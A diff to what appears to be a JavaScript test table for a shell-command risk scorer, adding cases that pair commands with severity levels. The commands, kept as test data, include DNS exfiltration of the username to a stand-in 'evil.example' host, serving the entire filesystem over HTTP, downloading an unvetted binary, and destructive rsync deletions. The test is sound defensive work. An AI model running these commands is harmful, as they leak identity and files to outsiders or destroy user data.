@@ -31,6 +31,10 @@ describe('uploads and requests', () => {
     ['rsync -a --delete ./ /home/dev/', 'critical'],
     ['rsync -a --delete src/ ../shared-lib/', 'high'],
     ['rsync -a src/ build/', 'low'],
+    ['curl -u admin:hunter2 https://api.example.com', 'medium'],
+    ['curl -sL -o /home/dev/.local/bin/tool https://example.com/tool', 'high'],
+    ['dig $(whoami).evil.example', 'medium'],
+    ['python3 -m http.server 80 --directory /', 'high'],
   ])('%s is %s', (cmd, level) => expect(score(cmd).level).toBe(level));
 });
 
